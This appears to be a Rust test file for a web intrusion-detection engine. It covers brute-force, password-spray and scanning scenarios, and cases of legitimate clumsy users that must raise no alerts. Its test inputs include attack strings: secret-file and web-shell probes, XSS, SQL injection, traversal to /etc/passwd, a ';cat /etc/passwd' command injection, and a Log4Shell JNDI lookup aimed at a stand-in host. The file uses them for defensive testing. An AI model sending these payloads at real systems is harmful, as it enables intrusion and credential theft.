//! Guesses at accounts, fast or slow, from one address or from many; and what pages
//! elsewhere have browsers send. Live traffic only: a log tells neither.

use detect::bucket::Pour;
use vocab::{Login, LoginBy, Refusal, RefusedBy};

use super::*;

const MINUTE: f64 = 60.0;
const HOUR: f64 = 3_600.0;

/// One request, at a second of its story.
#[derive(Clone, Debug)]
struct Knock {
    at: f64,
    from: String,
    status: u16,
    login: Option<Login>,
    foreign: bool,
    method: &'static str,
    target: String,
}

fn knock(at: f64, from: impl Into<String>, status: u16) -> Knock {
    Knock {
        at,
        from: from.into(),
        status,
        login: None,
        foreign: false,
        method: "POST",
        target: "/login".to_owned(),
    }
}

impl Knock {
    fn with(mut self, account: u64, guess: u32, by: LoginBy) -> Self {
        self.login = Some(Login {
            account,
            guess: Some(guess),
            by,
        });
        self
    }

    fn foreign(mut self, target: impl Into<String>) -> Self {
        (self.foreign, self.method) = (true, "GET");
        self.target = target.into();
        self
    }
}

fn event(number: usize, one: &Knock) -> HttpEvent<'_> {
    HttpEvent {
        time: start().after(Duration::from_secs_f64(one.at)),
        site: "site".into(),
        client: ClientAddr::new(one.from.parse().unwrap()),
        method: one.method.into(),
        target: one.target.as_str().into(),
        version: 11,
        host: "www.example.org".into(),
        status: one.status,
        user_agent: BROWSER.into(),
        referer: "".into(),
        body_bytes: Some(100),
        tls: true,
        request_id: number as u64,
        session: false,
        credentials: None,
        foreign: one.foreign,
        login: one.login,
    }
}

/// The alerts of a story.
fn told(mut story: Vec<Knock>) -> Vec<Alert> {
    story.sort_by(|one, other| one.at.total_cmp(&other.at));
    let program = live_program();
    let shards = Shards::new(program.specs(), Limits::default(), Mode::Live);
    let mut scratch = Scratch::new(program, Seed::new(11));
    let mut alerts = Vec::new();
    for (number, one) in story.iter().enumerate() {
        let event = event(number, one);
        let now = event.time;
        let mut seen = program.observe(&event, &mut scratch);
        let pours: &[Pour] = seen.pours;
        shards.apply(
            program.specs(),
            pours,
            &mut seen.occurrence,
            now,
            &mut alerts,
        );
    }
    assert_eq!(scratch.counted().errors, 0, "no expression fails");
    alerts
}

fn address(number: u32) -> String {
    std::net::Ipv4Addr::from_bits(0xc612_0000 + number).to_string()
}

/// So many knocks, `every` seconds apart.
fn row(count: u32, every: f64, make: impl Fn(u32, f64) -> Knock) -> Vec<Knock> {
    (0..count)
        .map(|number| make(number, f64::from(number) * every))
        .collect()
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of stories")]
fn guesses_at_one_account_are_seen_from_however_many_addresses_and_however_slowly() {
    use LoginBy::{Basic, Form, Json};
    let (many, form) = (
        "ringwall/http-account-bruteforce",
        "ringwall/http-account-bruteforce-form",
    );
    let (slow, spray) = (
        "ringwall/http-bruteforce-slow",
        "ringwall/http-bruteforce-slow-spray",
    );
    let stories = [
        (
            "a botnet, an address for each guess, JSON and 401",
            many,
            row(40, 30.0, |n, at| {
                knock(at, address(n), 401).with(7, n, Json)
            }),
        ),
        (
            "the same over Basic, each address three times",
            many,
            row(90, 20.0, |n, at| {
                knock(at, address(n % 30), 401).with(7, n, Basic)
            }),
        ),
        ("the same, while the owner's mail program works on", many, {
            let mut story = row(40, 60.0, |n, at| {
                knock(at, address(n), 401).with(7, n, Basic)
            });
            story.extend(row(80, 30.0, |_, at| {
                knock(at, "203.0.113.5", 200).with(7, 999, Basic)
            }));
            story
        }),
        (
            "a botnet at a form that answers 200",
            form,
            row(60, 60.0, |n, at| {
                knock(at, address(n), 200).with(7, n, Form)
            }),
        ),
        (
            "a botnet at a form that answers 302",
            form,
            row(60, 60.0, |n, at| {
                knock(at, address(n), 302).with(7, n, Form)
            }),
        ),
        (
            "IPv6, a /64 each",
            many,
            row(40, 30.0, |n, at| {
                knock(at, format!("2001:db8:0:{n:x}::1"), 401).with(7, n, Json)
            }),
        ),
        (
            "one source, a guess a minute, 200",
            slow,
            row(120, MINUTE, |n, at| {
                knock(at, address(1), 200).with(7, n, Form)
            }),
        ),
        (
            "one source, a guess each three minutes, 401",
            slow,
            row(60, 3.0 * MINUTE, |n, at| {
                knock(at, address(1), 401).with(7, n, Json)
            }),
        ),
        (
            "one source, a guess each three minutes, Basic",
            slow,
            row(60, 3.0 * MINUTE, |n, at| {
                knock(at, address(1), 401).with(7, n, Basic)
            }),
        ),
        (
            "one source, rotating within its /64",
            slow,
            row(60, 3.0 * MINUTE, |n, at| {
                knock(at, format!("2001:db8:0:1::{n:x}"), 302).with(7, n, Form)
            }),
        ),
        (
            "a picture between two guesses, over many accounts",
            "ringwall/http-bruteforce-many",
            {
                let mut story = row(300, 1.0, |n, at| {
                    knock(at, address(1), 302).with(u64::from(n), 5, Form)
                });
                story.extend(row(300, 1.0, |_, at| {
                    let mut picture = knock(at + 0.5, address(1), 200);
                    (picture.method, picture.target) = ("GET", "/a.png".to_owned());
                    picture
                }));
                story
            },
        ),
        (
            "one password over many accounts, one each two minutes",
            spray,
            row(120, 2.0 * MINUTE, |n, at| {
                knock(at, address(1), 401).with(u64::from(n), 5, Json)
            }),
        ),
    ];
    for (what, expected, story) in stories {
        let alerts = told(story);
        assert!(
            names(&alerts).contains(expected),
            "{what}: {:?}",
            names(&alerts)
        );
        for alert in alerts.iter().filter(|alert| alert.scenario == expected) {
            assert_eq!(alert.label("strongest"), "throttle", "{what}");
            assert!(alert.events.len() <= 256, "{what}");
        }
        println!(
            "{what}: {} alerts, the first after {} events",
            alerts.len(),
            alerts.first().map_or(0, |alert| alert.events_count)
        );
    }
}

#[test]
fn the_alert_names_every_source_that_took_part_and_never_the_account() {
    let story = row(15, 10.0, |n, at| {
        knock(at, address(n), 401).with(7, n, LoginBy::Json)
    });
    let alerts = told(story);
    let sources: BTreeSet<&str> = alerts.iter().map(|one| one.source.value.as_str()).collect();
    assert_eq!(sources.len(), 15, "{sources:?}");
    let first = alerts.first().unwrap();
    for source in &sources {
        assert!(
            first
                .events
                .iter()
                .any(|event| event.meta("source_ip") == *source),
            "{source}"
        );
    }
    let event = first.events.first().unwrap();
    assert_eq!(event.meta("account"), "0000000000000007");
    assert_eq!(event.meta("target_fqdn"), "www.example.org");
}

/// 220 logins within 20 minutes, each after its page with a style sheet.
fn office(mistyped: u16) -> Vec<Knock> {
    let mut story = row(220, 5.5, |n, at| {
        let wrong = n % 11 == 3;
        let who = u64::from(if wrong { n + 1 } else { n });
        let (right, by) = match mistyped {
            200 => (302, LoginBy::Form),
            _ => (200, LoginBy::Json),
        };
        let status = if wrong { mistyped } else { right };
        knock(at + 1.0, "203.0.113.5", status).with(who, if wrong { 1_000 + n } else { n }, by)
    });
    story.extend(row(220, 5.5, |_, at| {
        let mut page = knock(at, "203.0.113.5", 200);
        (page.method, page.target) = ("GET", "/static/site.css".to_owned());
        page
    }));
    story
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of stories")]
fn people_and_programs_that_are_only_clumsy_are_left_alone() {
    use LoginBy::{Basic, Form, Json};
    let page = |mut one: Knock, target: &str| {
        (one.method, one.target) = ("GET", target.to_owned());
        one
    };
    let stories = [
        (
            "12 wrong passwords over a day, 401",
            row(12, 2.0 * HOUR, |n, at| {
                knock(at, "203.0.113.5", 401).with(7, n, Json)
            }),
        ),
        (
            "12 wrong passwords over a day, a form that answers 200",
            row(12, 2.0 * HOUR, |n, at| {
                knock(at, "203.0.113.5", 200).with(7, n, Form)
            }),
        ),
        (
            "six wrong passwords in five minutes, then in",
            row(7, 50.0, |n, at| {
                knock(at, "203.0.113.5", if n < 6 { 401 } else { 200 }).with(7, n, Json)
            }),
        ),
        (
            "an office of 200 behind one address, in within 20 minutes, a tenth mistyped, 401",
            office(401),
        ),
        (
            "the same at a form that answers 302 when it was right and 200 when not",
            office(200),
        ),
        (
            "an API client whose token ended, each five minutes all day",
            row(288, 5.0 * MINUTE, |_, at| {
                page(knock(at, "203.0.113.5", 401), "/api/items")
            }),
        ),
        (
            "a client with an old password, each five minutes all day",
            row(288, 5.0 * MINUTE, |_, at| {
                page(knock(at, "203.0.113.5", 401).with(7, 1, Basic), "/dav/")
            }),
        ),
        (
            "a probe of a protected page each 30 seconds, a day",
            row(2_880, 30.0, |_, at| {
                page(knock(at, "203.0.113.5", 401), "/")
            }),
        ),
        (
            "a family calendar after the password was changed, 14 phones",
            row(280, MINUTE, |n, at| {
                page(knock(at, address(n % 14), 401).with(7, 1, Basic), "/cal/")
            }),
        ),
        (
            "a class that shares one account, each from home, within ten minutes, 302",
            row(30, 20.0, |n, at| {
                knock(at, address(n), 302).with(7, if n % 6 == 5 { 100 + n } else { 1 }, Form)
            }),
        ),
        (
            "a phone that logs in again through ever new addresses",
            row(48, 30.0 * MINUTE, |n, at| {
                knock(at, address(n), 200).with(7, 1, Json)
            }),
        ),
        (
            "one household of IPv6 with ever new addresses",
            row(9, MINUTE, |n, at| {
                knock(at, format!("2001:db8:0:1::{n:x}"), 401).with(7, n % 5, Basic)
            }),
        ),
        (
            "a browser that a test drives, 300 logins of one person with a picture each",
            row(600, 0.5, |n, at| {
                if n % 2 == 0 {
                    knock(at, "203.0.113.5", 302).with(7, 1, Form)
                } else {
                    page(knock(at, "203.0.113.5", 200), "/static/site.css")
                }
            }),
        ),
        (
            "a monitor that logs in each ten seconds all day",
            row(8_640, 10.0, |_, at| {
                knock(at, "203.0.113.5", 302).with(7, 1, Form)
            }),
        ),
        (
            "a service that asks for a token each second, with one password",
            row(3_600, 1.0, |_, at| {
                let mut one = knock(at, "203.0.113.5", 200).with(7, 1, Form);
                one.target = "/oauth/token".to_owned();
                one
            }),
        ),
        (
            "different people from different places",
            row(300, 10.0, |n, at| {
                knock(at, address(n), 200).with(u64::from(n), n, Form)
            }),
        ),
    ];
    let mut wrong = Vec::new();
    for (what, story) in stories {
        let alerts = told(story);
        if !alerts.is_empty() {
            wrong.push(format!("{what}: {:?}", names(&alerts)));
        }
    }
    assert!(
        wrong.is_empty(),
        "DENY: somebody clumsy is accused\n{}",
        wrong.join("\n")
    );
}

#[test]
fn a_page_elsewhere_has_nobody_barred_and_saying_so_is_no_way_out() {
    let paths = [
        "/.env",
        "/.git/config",
        "/wp-config.php.bak",
        "/phpinfo.php",
        "/server-status",
        "/backup.zip",
        "/admin/",
        "/phpmyadmin/",
        "/shell.php",
        "/c99.php",
        "/r57.php",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?id=1%27%20union%20select%201,2,3--",
        "/?f=../../../../etc/passwd",
        "/?f=....//....//etc/passwd",
        "/x?f=..%2f..%2fetc/passwd",
        "/?x=${jndi:ldap://203.0.113.250/a}",
    ];
    let visit = |foreign: bool| -> Vec<Knock> {
        paths
            .iter()
            .zip(0_u8..)
            .map(|(path, n)| {
                let mut one = knock(f64::from(n), "203.0.113.5", 404).foreign(*path);
                one.foreign = foreign;
                one
            })
            .collect()
    };
    assert_eq!(
        told(visit(true)),
        [],
        "DENY: a visitor of a foreign page is accused"
    );
    let barred = names(&told(visit(false))).len();
    assert!(
        barred >= 4,
        "the same without the mark is four attacks at least: {barred}"
    );
    // An attacker who writes the header: never barred, but slowed down soon.
    let scan = row(200, 0.1, |n, at| {
        knock(at, "203.0.113.66", 404).foreign(format!("/word{n}"))
    });
    let alerts = told(scan);
    assert!(names(&alerts).contains("ringwall/http-foreign"));
    let first = alerts.first().unwrap();
    assert!(first.events_count <= 21, "{}", first.events_count);
    assert!(
        alerts
            .iter()
            .all(|one| one.label("strongest") == "throttle"),
        "DENY barred: {:?}",
        names(&alerts)
    );
}

#[test]
fn one_header_switches_no_rule_off() {
    let get = |target: String, status: u16| {
        move |at: f64| knock(at, "203.0.113.66", status).foreign(target.clone())
    };
    let post = |target: &str, status: u16| {
        let mut one = knock(0.0, "203.0.113.66", status).foreign(target);
        one.method = "POST";
        move |at: f64| Knock { at, ..one.clone() }
    };
    type Story<'s> = (&'s str, Box<dyn Fn(u32, f64) -> Knock + 's>, f64);
    let stories: [Story<'_>; 8] = [
        (
            "SQL, escaped, answered 200",
            Box::new(|n, at| get(format!("/?id={n}%27%20union%20select%20{n},2--"), 200)(at)),
            0.5,
        ),
        (
            "script, escaped, answered 302",
            Box::new(|n, at| get(format!("/?q=%3Cscript%3Ealert({n})%3C/script%3E"), 302)(at)),
            0.5,
        ),
        (
            "commands, answered 500",
            Box::new(|n, at| get(format!("/?host=x;cat%20/etc/passwd%20{n}"), 500)(at)),
            0.5,
        ),
        (
            "crawling",
            Box::new(|n, at| get(format!("/page/{n}"), 200)(at)),
            0.05,
        ),
        (
            "random queries",
            Box::new(|n, at| get(format!("/?x={n}"), 200)(at)),
            0.01,
        ),
        (
            "one address, xmlrpc",
            Box::new(|_, at| post("/xmlrpc.php", 200)(at)),
            1.0,
        ),
        (
            "one address, signin",
            Box::new(|_, at| post("/signin.php", 302)(at)),
            1.0,
        ),
        (
            "one address, session",
            Box::new(|_, at| post("/session", 200)(at)),
            1.0,
        ),
    ];
    for (what, make, every) in stories {
        let alerts = told(row(300, every, make));
        assert!(!alerts.is_empty(), "{what}: nothing counts it");
        assert!(
            alerts
                .iter()
                .all(|one| one.label("strongest") == "throttle"),
            "DENY {what} bars whoever visits a page elsewhere: {:?}",
            names(&alerts)
        );
    }
}

#[test]
fn links_from_elsewhere_are_no_attack() {
    // A person comes by links from a search engine; a shop window elsewhere shows our pictures.
    let mut story = row(60, 20.0, |n, at| {
        knock(at, "203.0.113.5", 200).foreign(format!("/article/{n}"))
    });
    story.extend(row(300, 0.2, |n, at| {
        knock(at, "203.0.113.6", 200).foreign(format!("/pictures/{n}.jpg"))
    }));
    assert_eq!(told(story), [], "DENY");
}

#[test]
fn asking_beforehand_whether_it_is_an_exploit_counts_nothing() {
    let program = live_program();
    let mut scratch = Scratch::new(program, Seed::new(11));
    let one = knock(0.0, "203.0.113.5", 404).foreign("/?x=${jndi:ldap://203.0.113.250/a}");
    assert!(program.is_exploit(&event(0, &one), &mut scratch));
    assert_eq!(scratch.counted().events, 0);
    assert_eq!(scratch.counted().filters, 0);
    program.observe(&event(0, &one), &mut scratch);
    assert_eq!(scratch.counted().events, 1);
}

#[test]
fn what_could_only_be_an_exploit_is_known_before_it_is_answered() {
    let program = live_program();
    let mut scratch = Scratch::new(program, Seed::new(11));
    let cases = [
        ("/?x=${jndi:ldap://203.0.113.250/a}", true),
        ("/", false),
        ("/wp-login.php", false),
        ("/?q=select+a+from+b", false),
        ("/.env", false),
    ];
    for (target, expected) in cases {
        let one = knock(0.0, "203.0.113.5", 0).foreign(target);
        assert_eq!(
            program.is_exploit(&event(0, &one), &mut scratch),
            expected,
            "{target}"
        );
    }
}

#[test]
fn refusals_of_what_a_page_elsewhere_had_sent_count_apart() {
    let program = live_program();
    let shards = Shards::new(program.specs(), Limits::default(), Mode::Live);
    let mut scratch = Scratch::new(program, Seed::new(11));
    let mut raised = |foreign: bool, times: u32, from: &str| {
        let mut alerts: Vec<Alert> = Vec::new();
        for number in 0..times {
            let now = start().after(Duration::from_millis(u64::from(number) * 100));
            let refusal = Refusal {
                time: now,
                client: ClientAddr::new(from.parse().unwrap()),
                site: "site".into(),
                by: RefusedBy::Rule,
                rule: "foreign.exploit".into(),
                status: 403,
                request_id: 1,
                observed: false,
                foreign,
            };
            let mut seen = program.refused(&refusal, &mut scratch);
            shards.apply(
                program.specs(),
                seen.pours,
                &mut seen.occurrence,
                now,
                &mut alerts,
            );
        }
        alerts
            .into_iter()
            .map(|one| one.scenario)
            .collect::<Vec<_>>()
    };
    assert_eq!(raised(false, 10, "203.0.113.5"), ["ringwall/edge-refusals"]);
    assert_eq!(
        raised(true, 20, "203.0.113.6"),
        Vec::<String>::new(),
        "DENY a visitor"
    );
    assert_eq!(raised(true, 21, "203.0.113.7"), ["ringwall/http-foreign"]);
}

#[test]
fn an_equal_first_guess_hides_no_later_one_and_a_made_up_success_empties_nothing() {
    use LoginBy::{Form, Json};
    // Every address first sends what all the others sent first, then a guess of its own.
    let mut story = row(30, 60.0, |n, at| {
        knock(at, address(n), 401).with(7, 0, Json)
    });
    story.extend(row(30, 60.0, |n, at| {
        knock(at + 30.0, address(n), 401).with(7, n + 1, Json)
    }));
    let alerts = told(story.clone());
    assert!(
        names(&alerts).contains("ringwall/http-account-bruteforce"),
        "DENY decoys hide guesses"
    );
    // Between them somebody posts the account where any answer is 200.
    story.extend(row(60, 30.0, |_, at| {
        let mut one = knock(at + 7.0, "203.0.113.9", 200).with(7, 99, Form);
        one.target = "/?login".to_owned();
        one
    }));
    let alerts = told(story);
    assert!(
        names(&alerts).contains("ringwall/http-account-bruteforce"),
        "DENY emptied at will"
    );
    // A family whose devices share one stale password guesses nothing.
    let family = row(200, 30.0, |n, at| {
        knock(at, address(n % 20), 401).with(7, 1, Json)
    });
    assert!(
        !names(&told(family)).contains("ringwall/http-account-bruteforce"),
        "DENY one password"
    );
}

/// A guess each second, and a picture after every ninth.
fn with_pictures(count: u32, guess: impl Fn(u32, Knock) -> Knock) -> Vec<Knock> {
    let mut story = row(count, 1.0, |n, at| guess(n, knock(at, address(1), 200)));
    story.extend(row(count / 9, 9.0, |_, at| {
        let mut picture = knock(at + 8.5, address(1), 200);
        (picture.method, picture.target) = ("GET", "/a.png".to_owned());
        picture
    }));
    story
}

#[test]
fn no_decoy_and_no_picture_lets_one_address_guess_for_ever() {
    use LoginBy::{Basic, Form};
    let elsewhere = |mut one: Knock, target: &str| {
        one.target = target.to_owned();
        one
    };
    // What a decoy makes of account and guess: see `layers/edge/src/login.rs`.
    type Guess<'g> = Box<dyn Fn(u32, Knock) -> Knock + 'g>;
    let stories: [(&str, &str, u32, f64, Guess<'_>); 8] = [
        (
            "one account, a picture every nine; so, too, beside a decoy that stays",
            "ringwall/http-bruteforce-slow-long",
            140,
            1.0,
            Box::new(|n, one| one.with(7, n, Form)),
        ),
        (
            "the same, slower than any rule that counts forms",
            "ringwall/http-bruteforce-slow-long",
            160,
            7.0,
            Box::new(|n, one| one.with(7, n, Form)),
        ),
        (
            "Basic credentials or a name that change with every form",
            "ringwall/http-form-bruteforce-varied",
            160,
            1.0,
            Box::new(|n, one| one.with(u64::from(n), n, Form)),
        ),
        (
            "the same at phpMyAdmin, whose address says nothing of a login",
            "ringwall/http-form-bruteforce-varied",
            160,
            1.0,
            Box::new(move |n, one| {
                let one = elsewhere(one, "/phpmyadmin/index.php?route=/");
                one.with(u64::from(n), n, Form)
            }),
        ),
        (
            "a decoy that stays, beside fields of unusual names",
            "ringwall/http-form-bruteforce-total",
            400,
            1.0,
            Box::new(|_, one| one.with(7, 1, Form)),
        ),
        (
            "the same at MediaWiki, the real fields too far behind",
            "ringwall/http-form-bruteforce-total",
            400,
            1.0,
            Box::new(move |_, one| {
                elsewhere(one, "/index.php?title=Special:UserLogin").with(7, 1, Form)
            }),
        ),
        (
            "Basic credentials beside a form that nobody reads",
            "ringwall/http-form-bruteforce-slow",
            90,
            1.0,
            Box::new(|n, one| one.with(u64::from(n), n, Basic)),
        ),
        (
            "XML-RPC, a picture every nine",
            "ringwall/http-form-bruteforce-total",
            400,
            1.0,
            Box::new(move |_, one| elsewhere(one, "/xmlrpc.php")),
        ),
    ];
    for (what, expected, count, slower, guess) in stories {
        let mut story = with_pictures(count, guess);
        for one in &mut story {
            one.at *= slower;
        }
        let alerts = told(story);
        let found = alerts.iter().find(|one| one.scenario == expected);
        let found = found.unwrap_or_else(|| panic!("DENY {what}: {:?}", names(&alerts)));
        assert_eq!(
            found.label("strongest"),
            "",
            "DENY {what}: only slowed down"
        );
    }
}
